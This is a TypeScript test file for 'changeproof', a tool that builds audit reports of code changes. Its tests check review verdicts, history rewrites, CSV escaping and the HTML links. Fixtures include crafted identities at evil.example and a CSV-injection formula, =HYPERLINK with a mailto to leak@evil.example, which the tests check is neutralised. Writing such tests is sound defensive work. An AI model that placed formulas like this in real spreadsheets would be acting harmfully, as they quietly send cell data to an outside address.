        for (const v of c.verdicts.filter((x) => x.rule !== "C11" && x.rule !== "C12")) {
          expect(v, `${c.id} ${v.rule}`).toEqual({ rule: v.rule, verdict: "blocked", reason: blocked });
        }
        expect(c.verdicts.find((v) => v.rule === "C11")?.verdict).toBe("exception");
        expect(c.exceptions).toEqual([
          ...["C1", "C2", "C3", "C4", "C5", "C6", "C7"].map((r) => `${r} blocked`),
          "C11 exception",
        ]);
      }
      expect(byTitle(gitOnly, MERGE_SUBJECT).commits).toEqual([hostile.merge]);
      expect(gitOnly.report.totals).toEqual({
        changes: IN_PERIOD,
        pullRequests: 0,
        directPushes: 0,
        unknown: IN_PERIOD,
        dropped: 0,
        rewrites: 0,
        // Eight findings per change, and P1's exception for each gap (GitHub was not collected).
        findings: IN_PERIOD * 8 + gitOnly.report.coverage.gaps.length,
      });
      expect(gitOnly.report.coverage.gaps.length).toBeGreaterThan(0);
      checkPopulations(gitOnly);
      checkPopulations(withGap);
      checkPopulations(quiet);
      checkPopulations(afterRewrite);
      expect(quiet.changes.changes).toEqual([]);
      expect(quiet.findings.findings).toEqual([]);
    });

    it("keeps the hostile values as data", () => {
      expect(byTitle(gitOnly, LONG_SUBJECT).author).toBe(ident(cjkPerson2));
      expect(byTitle(gitOnly, CRAFTED_SUBJECT)).toMatchObject({
        author: `${SCRIPT} <script@evil.example>`,
        mergedBy: `${IMG} <img@evil.example>`,
      });
      expect(byTitle(gitOnly, TEMPLATE_SUBJECT).author).toBe(ident(ctorPerson));
      expect(byTitle(gitOnly, MERGE_SUBJECT)).toMatchObject({ author: ident(alice), mergedBy: ident(GITHUB_WEB) });
      const coAuthored = byTitle(gitOnly, `${EMOJI} Deploy ${CJK2} ${CYRILLIC}`);
      expect(coAuthored.author).toBe(ident(cjkPerson));
      // Co-authors are in the population as identities (they resolve to nobody here) and in C11.
      expect(gitOnly.findings.unresolvedIdentities).toContainEqual({
        identity: `${SCRIPT} <co@evil.example>`,
        changes: [coAuthored.id],
      });
      expect(coAuthored.verdicts.find((v) => v.rule === "C11")?.reason).toContain(
        `by unknown author ${SCRIPT} <co@evil.example>`,
      );
    });

    // CSV injection (OWASP): a cell starting with = + - @ is a formula to a spreadsheet.
    it("escapes formulas in the CSV populations", () => {
      const c = byTitle(gitOnly, FORMULA);
      expect(c.author).toBe(ident(formulaPerson));
      const [head, ...rows] = gitOnly.changesCsv;
      const col = (name: string): number => head?.indexOf(name) ?? -1;
      const row = rows.find((r) => r[0] === c.id);
      expect(row?.[col("title")]).toBe(`'${FORMULA}`);
      expect(row?.[col("author")]).toBe(`'${ident(formulaPerson)}`);
      expect(c.mergedBy).toBe(ident(formulaPerson));
      expect(row?.[col("merged_by")]).toBe(`'${ident(formulaPerson)}`);
      // Every other cell is the JSON population's value as it is.
      for (const [i, ch] of gitOnly.changes.changes.entries()) {
        const r = rows[i] ?? [];
        expect(r[col("title")]?.replace(/^'(?=[=@])/, "")).toBe(ch.title);
        expect(r[col("author")]?.replace(/^'(?=[=@])/, "")).toBe(ch.author);
        expect(r[col("merged_by")]?.replace(/^'(?=[=@])/, "")).toBe(ch.mergedBy);
        expect(r[col("kind")]).toBe("unknown");
        expect(r[col("commits")]).toBe(ch.commits.join(" "));
        expect(r[col("C7")]).toBe("blocked");
        expect(r[col("C11")]).toBe("exception");
      }
      const raw = readFileSync(path.join(gitOnly.dir, "changes.csv"), "utf8");
      expect(raw).toContain(`"'=HYPERLINK(""mailto:leak@evil.example?body=""&A1,""Open the release notes"")"`);
      expect(raw).not.toMatch(/(^|,)=HYPERLINK/m);
      // Its findings name it; the reason naming its author starts with the commit id, not "@".
      expect(gitOnly.findingsCsv.filter((r) => r[3] === c.id)).toHaveLength(8);
    });

    it("records the SHA-256 and size of every file it wrote", () => {
      for (const w of all()) checkManifest(w);
    });
  });

  describe("history rewrite", () => {
    it("has no rewrite section before the branch was force-moved", () => {
      expect(gitOnly.report.rewrites).toEqual([]);
      expect(gitOnly.html).not.toContain("History rewrites on protected branches");
      expect(gitOnly.pdfText).not.toContain("History rewrites on protected branches");
      expect(gitOnly.findings.findings.filter((f) => f.rule === "C8")).toEqual([]);
    });

    it("shows the rewrite, its tips and the dropped changes after a force-move between collections", () => {
      const r = afterRewrite.report;
      expect(r.rewrites).toHaveLength(1);
      expect(r.rewrites[0]).toMatchObject({
        repo: REPO,
        branch: "main",
        oldTip: rewrite.oldTip,
        newTip: rewrite.newTip,
        oldTipPresent: true,
        notBefore: "2026-10-01T06:00:00.000Z",
        observedAt: "2026-10-01T07:00:00.000Z",
      });
      // The post-period commit was dropped too, but only the period's two are in this report.
      expect(r.rewrites[0]?.droppedCommits).toBe(3);
      expect(r.totals).toMatchObject({ rewrites: 1, dropped: 2, changes: IN_PERIOD });
      // Dropped changes stay in the population, marked.
      const dropped = afterRewrite.changes.changes.filter((c) => c.droppedAt !== null);
      expect(dropped.map((c) => c.id)).toEqual(rewrite.dropped.map((sha) => `${REPO}@${sha}`));
      for (const c of dropped) expect(c.droppedAt).toBe("2026-10-01T07:00:00.000Z");
      expect(afterRewrite.changes.changes.map((c) => c.id)).toEqual(hostile.inPeriod.map((sha) => `${REPO}@${sha}`));
      const csvDropped = afterRewrite.changesCsv.slice(1).filter((row) => row[10] !== "");
      expect(csvDropped.map((row) => [row[0], row[10]])).toEqual(dropped.map((c) => [c.id, c.droppedAt]));
      // C8 judges the branch.
      expect(afterRewrite.findings.findings.filter((f) => f.rule === "C8")).toMatchObject([
        { verdict: "rewrite", subject: { kind: "branch", id: `${REPO}:main` } },
      ]);

      expect(afterRewrite.html).toContain("<h2>History rewrites on protected branches</h2>");
      expect(afterRewrite.html).toContain(rewrite.oldTip.slice(0, 12));
      expect(afterRewrite.html).toContain(rewrite.newTip.slice(0, 12));
      expect(
        afterRewrite.html.match(/DROPPED from the branch by a rewrite observed 2026-10-01T07:00:00.000Z/g),
      ).toHaveLength(2);
      expect(afterRewrite.html.match(/<tr class="kind-unknown dropped">/g)).toHaveLength(2);
      expect(afterRewrite.html).toMatch(/<h2>Summary<\/h2>[\s\S]*?by a history rewrite<\/th><td class="num">2</);
      expect(afterRewrite.pdfText).toContain("History rewrites on protected branches");
      expect(afterRewrite.pdfText).toContain(rewrite.oldTip.slice(0, 12));
      expect(afterRewrite.pdfText).toContain(rewrite.newTip.slice(0, 12));
      expect(squash(afterRewrite.pdfText)).toContain(
        squash("Changes later dropped from their branch by a rewrite: 2; history rewrites observed: 1"),
      );
      // Cells wrap: read the PDF in drawing order, where a cell's lines follow each other.
      expect(
        squash(pdfRaw(afterRewrite.pdf)).split(
          squash("DROPPED from the branch by a rewrite observed 2026-10-01T07:00:00.000Z"),
        ),
      ).toHaveLength(3);
    });

    // The replacement is dated inside the period, but the read at 06:00 did not see it: it landed
    // when it was first seen, after the period, whatever its committer date says.
    it("puts the replacement in the period it was first seen in, not the one its date claims", () => {
      const id = `${REPO}@${rewrite.newTip}`;
      expect(afterRewrite.changes.changes.map((c) => c.id)).not.toContain(id);
      const q4 = buildChangeLogReport(db, parsePeriod("2026Q4"), [REPO], d("2027-01-02T00:00:00Z"));
      expect(q4.changes.find((c) => c.id === id)).toMatchObject({
        title: "Replacement for the dropped changes",
        landedAt: "2026-10-01T07:00:00.000Z",
        droppedAt: null,
      });
      expect(q4.changes.find((c) => c.id === id)?.landedBy).toContain("2026-09-14T12:00:00.000Z");
    });
  });
});

// ---------------------------------------------------------------------------------------------
// The demo organisation

/*
 * `changeproof demo`'s pipeline in this process: git, GitHub (the fake, on loopback) and the
 * cluster collected twice around the GitOps force push, then the report. The demo's story (which
 * pull request gets which verdict) changes as the demo grows: these tests assert what holds for
 * any story, not its details.
 */

const CHANGE_RULES = ["C1", "C2", "C3", "C4", "C5", "C6", "C7", "C11", "C12"];
const PR_KINDS: ChangeKind[] = ["merge-commit", "squash", "rebase"];
const KINDS: ChangeKind[] = [...PR_KINDS, "not-on-branch", "direct-push", "unknown"];

describe("change-log report of the demo organisation", () => {
  const root = tempDir("changeproof-demo-report-");
  let w: Written;
  let gitopsDir: string;

  beforeAll(async () => {
    const lines: string[] = [];
    const result = await runDemo({
      output: root,
      log: silentLogger,
      out: (l) => lines.push(l),
      now: () => new Date(),
    });
    expect(result.files).toHaveLength(14);
    gitopsDir = path.join(root, "demo", "org", "repos", "platform-gitops");
    // The model behind the files, rebuilt from the demo's store as `report` builds it.
    const generatedAt = (JSON.parse(readFileSync(path.join(result.dir, "changes.json"), "utf8")) as ChangesFile)
      .generatedAt;
    const db = openStore(path.join(root, "demo", "changeproof.db"), { readonly: true });
    try {
      const report = buildChangeLogReport(
        db,
        parsePeriod(DEMO_PERIOD),
        ["acme/payments-api", "acme/platform-gitops"],
        d(generatedAt),
        { githubOrg: "acme", clusters: ["prod"] },
        { people: [], exceptions: [], images: new Map([["acme/payments-api", [PAYMENTS_IMAGE]]]) },
      );
      w = readWritten(report, result.dir);
    } finally {
      db.close();
    }
  });

  const git = (args: readonly string[]): string =>
    execFileSync("git", ["-C", gitopsDir, ...args], { encoding: "utf8" }).trim();

  it("writes the populations and manifest of the model it reports", () => {
    checkPopulations(w);
    checkManifest(w);
    checkPageFooters(w.pdf, w.report.title, w.pdfText);
  });

  it("writes the access review (access.json/csv) and shows it in the HTML and the PDF", () => {
    const access = JSON.parse(readFileSync(path.join(w.dir, "access.json"), "utf8")) as {
      snapshots: { id: number; takenAt: string }[];
      verdicts: { rule: string; verdict: string; subject: { id: string }; reason: string }[];
    };
    expect(access.snapshots.length).toBeGreaterThan(0);
    expect([...new Set(access.verdicts.map((v) => v.rule))]).toEqual(["A1", "A2", "A3", "A4"]);
    expect(access.verdicts).toEqual(w.report.access.verdicts);
    const csv = parseCsv(readFileSync(path.join(w.dir, "access.csv"), "utf8"));
    expect(csv[0]).toEqual(parseCsv(readFileSync(path.join(w.dir, "findings.csv"), "utf8"))[0]);
    expect(csv.slice(1).map((r) => `${r[0]} ${r[1]} ${r[3]}`)).toEqual(
      access.verdicts.map((v) => `${v.rule} ${v.verdict} ${v.subject.id}`),
    );
    // Every access finding is among the report's findings; passes are not.
    const findings = new Set(w.findings.findings.map((f) => `${f.rule} ${f.subject.id} ${f.reason}`));
    for (const v of access.verdicts) {
      expect(findings.has(`${v.rule} ${v.subject.id} ${v.reason}`), v.reason).toBe(v.verdict !== "pass");
    }
    expect(w.html).toContain('<h2 id="access">Access review</h2>');
    expect(w.html).toContain("dave is an outside collaborator with WRITE on acme/payments-api");
    expect(w.pdfText).toContain("Access review");
    expect(w.pdfText.replace(/\s+/g, " ")).toContain("dave is an outside collaborator with WRITE on");
  });

  it("reconciles each protected branch with git: the command in coverage.json recounts what the report says", () => {
    const coverage = JSON.parse(readFileSync(path.join(w.dir, "coverage.json"), "utf8")) as {
      complete: boolean;
      gaps: string[];
      reconciliation: {
        repo: string;
        branch: string;
        gitCount: number;
        byPullRequests: number;
        byPushes: number;
        otherPeriods: number;
        command: string;
      }[];
    };
    expect(coverage.gaps).toEqual(w.report.coverage.gaps);
    expect(coverage.complete).toBe(coverage.gaps.length === 0);
    expect(coverage.reconciliation.map((r) => `${r.repo}:${r.branch}`)).toEqual([
      "acme/payments-api:main",
      "acme/platform-gitops:main",
    ]);
    for (const r of coverage.reconciliation) {
      const clone = path.join(root, "demo", "org", "repos", r.repo.split("/")[1] ?? "");
      const [cmd = "", ...args] = r.command.split(" ");
      const counted = Number(execFileSync(cmd, ["-C", clone, ...args], { encoding: "utf8" }).trim());
      expect(counted, r.command).toBe(r.gitCount);
      expect(r.byPullRequests + r.byPushes + r.otherPeriods, r.repo).toBe(r.gitCount);
    }
    // The commit the force push put on GitOps main is dated in the quarter but first seen after it.
    expect(coverage.reconciliation[1]?.otherPeriods).toBe(1);
    expect(w.findings.findings.filter((f) => f.rule === "P1").map((f) => f.verdict)).toContain("note");
    expect(w.html).toContain('<h2 id="reconciliation">Population reconciliation</h2>');
    expect(w.pdfText).toContain("Population reconciliation");
    // The weekly picture, in both: the PDF draws its bars as vectors, with the legend as text.
    expect(w.html).toContain('<h2 id="weekly">Changes per week, by review</h2>');
    expect(w.pdfText).toContain("Changes per week, by review");
    expect(w.pdfText).toMatch(/reviewed\s+not reviewed\s+direct push\s+blocked \(data missing\)/);
  });

  it("writes the separation-of-duties matrix (people.json/csv) and shows it in the HTML and the PDF", () => {
    const people = (
      JSON.parse(readFileSync(path.join(w.dir, "people.json"), "utf8")) as {
        people: { name: string; authored: number; conflicts: { kind: string; subject: string }[] }[];
      }
    ).people;
    expect(people).toEqual(JSON.parse(JSON.stringify(w.report.people)));
    expect(people.find((p) => p.name === "bob")?.conflicts).toContainEqual({
      kind: "self-approved",
      subject: "acme/payments-api#4",
    });
    const csv = parseCsv(readFileSync(path.join(w.dir, "people.csv"), "utf8"));
    expect(csv[0]?.slice(0, 4)).toEqual(["person", "key", "service", "authored"]);
    expect(csv.slice(1).map((r) => r[0])).toEqual(people.map((p) => p.name));
    expect(w.html).toContain('<h2 id="people">Separation of duties</h2>');
    expect(w.html).toContain("authored and sole-approved acme/payments-api#4");
    expect(w.pdfText).toContain("Separation of duties");
    // S1's verdicts are counted and its exceptions listed among the findings.
    expect(w.findings.findings.filter((f) => f.rule === "S1").map((f) => f.subject.id)).toContain("bob");
  });

  it("judges every change: GitHub was collected, so no change is unknown and no gap says so", () => {
    expect(w.report.totals.unknown).toBe(0);
    expect(w.report.coverage.gaps.filter((g) => g.includes("cannot be judged"))).toEqual([]);
    expect(w.report.coverage.gaps.filter((g) => /acme\/(payments-api|platform-gitops)/.test(g))).toEqual([]);
    expect(w.report.coverage.ledger.intact).toBe(true);
    expect(w.report.coverage.ledger.sealed).toBeGreaterThan(0);
  });

  it("lists each change once, with one verdict per change rule and a valid kind", () => {
    const rows = w.changes.changes;
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((c) => c.id)).size).toBe(rows.length);
    // A commit lands in one change only.
    const commits = rows.flatMap((c) => c.commits.map((sha) => `${c.repo}@${sha}`));
    expect(new Set(commits).size).toBe(commits.length);
    expect(w.changes.rules).toEqual(CHANGE_RULES);
    for (const c of rows) {
      expect(
        c.verdicts.map((v) => v.rule),
        c.id,
      ).toEqual(CHANGE_RULES);
      for (const v of c.verdicts) expect(v.reason, `${c.id} ${v.rule}`).not.toBe("");
      expect(KINDS, c.id).toContain(c.kind);
      const at = Date.parse(c.landedAt);
      expect(at >= Date.parse(w.report.period.from) && at < Date.parse(w.report.period.to), c.id).toBe(true);
    }
    // The demo shows every way a change lands.
    expect(new Set(rows.map((c) => c.kind))).toEqual(new Set([...PR_KINDS, "direct-push"]));
    const counts = w.report.totals;
    expect(counts.pullRequests + counts.directPushes).toBe(counts.changes);
  });

  it("shows merged pull requests as merge-commit, squash or rebase, passing C7", () => {
    const prs = w.changes.changes.filter((c) => c.pullRequest !== null);
    expect(prs.length).toBe(w.report.totals.pullRequests);
    for (const c of prs) {
      expect(PR_KINDS, c.id).toContain(c.kind);
      expect(c.id).toBe(`${c.repo}#${c.pullRequest?.number}`);
      expect(c.url).toBe(`https://github.com/${c.repo}/pull/${c.pullRequest?.number}`);
      expect(
        c.verdicts.find((v) => v.rule === "C7"),
        c.id,
      ).toMatchObject({ verdict: "pass" });
      expect(c.exceptions, c.id).not.toContain("C7 direct-push");
      expect(c.commits.length, c.id).toBeGreaterThan(0);
      if (c.kind === "squash") expect(c.commits, c.id).toHaveLength(1);
      // Linked to GitHub, from the HTML, without the browser sending the report's address.
      expect(w.html).toContain(`<a href="${c.url}" rel="noreferrer">${c.id}</a>`);
    }
  });

  it("shows direct pushes as kind direct-push with C7 direct-push and the review rules n/a", () => {
    const pushes = w.changes.changes.filter((c) => c.kind === "direct-push");
    expect(pushes.length).toBe(w.report.totals.directPushes);
    expect(pushes.length).toBeGreaterThan(0);
    for (const c of pushes) {
      expect(c.pullRequest).toBeNull();
      expect(c.commits).toHaveLength(1);
      expect(c.id).toBe(`${c.repo}@${c.commits[0]}`);
      expect(c.url).toBeNull();
      expect(c.author).toMatch(/ <[^<>]+@[^<>]+>$/);
      const verdict = (rule: string) => c.verdicts.find((v) => v.rule === rule)?.verdict;
      expect(verdict("C7"), c.id).toBe("direct-push");
      expect(verdict("C1"), c.id).toBe("n/a");
      for (const rule of ["C2", "C3", "C4", "C5", "C6"]) expect(verdict(rule), `${c.id} ${rule}`).toBe("n/a");
      expect(c.exceptions).toContain("C7 direct-push");
      expect(w.findings.findings).toContainEqual(
        expect.objectContaining({ rule: "C7", verdict: "direct-push", subject: { kind: "change", id: c.id } }),
      );
    }
    expect(w.html.match(/<td class="kind">direct push<\/td>/g)).toHaveLength(pushes.length);
    expect(w.html.match(/<tr class="kind-direct-push">/g)).toHaveLength(pushes.length);
  });

  it("renders one row per change in the HTML and the PDF", () => {
    const rows = w.changes.changes;
    expect(w.html.match(/<tr class="kind-/g)).toHaveLength(rows.length);
    for (const c of rows) {
      const cell = c.url ? `<a href="${c.url}" rel="noreferrer">${c.id}</a>` : c.id;
      expect(w.html.split(`<td class="id">${cell}</td>`), c.id).toHaveLength(2);
    }
    // Cells wrap: read the PDF in drawing order, where a cell's lines follow each other.
    const text = squash(pdfRaw(w.pdf));
    for (const c of rows) expect(text, c.id).toContain(squash(c.id));
  });

  it("links only to GitHub and loads nothing from outside the file", () => {
    for (const [, url] of w.html.matchAll(/\shref="([^"]*)"/g)) {
      expect(url).toMatch(/^https:\/\/github\.com\/acme\/[a-z-]+\/pull\/\d+$/);
    }
    expect(w.html).not.toMatch(/\s(src|action|srcset)=/i);
    expect(w.html).not.toMatch(/url\(/i);
    expect(w.html).not.toMatch(/@import/i);
    expect(w.html.match(/<a /g)).toHaveLength(w.html.match(/<a href="[^"]*" rel="noreferrer">/g)?.length ?? -1);
  });

  it("shows exactly one rewrite, on acme/platform-gitops main, and marks the change it dropped", () => {
    const r = w.report;
    expect(r.rewrites).toHaveLength(1);
    const rw = r.rewrites[0];
    expect(rw).toMatchObject({ repo: "acme/platform-gitops", branch: "main", oldTipPresent: true });
    expect(rw?.newTip).toBe(git(["rev-parse", "main"]));
    expect(r.totals.rewrites).toBe(1);
    expect(w.findings.findings.filter((f) => f.rule === "C8")).toMatchObject([
      { verdict: "rewrite", subject: { kind: "branch", id: "acme/platform-gitops:main" } },
    ]);

    const dropped = w.changes.changes.filter((c) => c.droppedAt !== null);
    expect(dropped.length).toBeGreaterThan(0);
    expect(r.totals.dropped).toBe(dropped.length);
    for (const c of dropped) {
      expect(c).toMatchObject({ repo: "acme/platform-gitops", branch: "main" });
      // Dropped by the rewrite the second collection observed.
      expect(c.droppedAt).toBe(rw?.observedAt);
      // Its commits are no longer on the branch.
      for (const sha of c.commits) {
        expect(() => git(["merge-base", "--is-ancestor", sha, "main"]), sha).toThrow();
      }
    }
    expect(dropped.flatMap((c) => c.commits)).toContain(rw?.oldTip);
    expect(w.html.match(/<tr class="kind-[a-z-]+ dropped">/g)).toHaveLength(dropped.length);
    const rows = /<h2>History rewrites on protected branches<\/h2>[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(w.html);
    expect(rows?.[1]?.match(/<tr>/g)).toHaveLength(1);
    expect(rows?.[1]).toContain("acme/platform-gitops");
    expect(squash(w.pdfText)).toContain(squash("history rewrites observed: 1"));
    expect(squash(w.pdfText)).toContain(
      squash(`Changes later dropped from their branch by a rewrite: ${dropped.length}`),
    );
  });
});
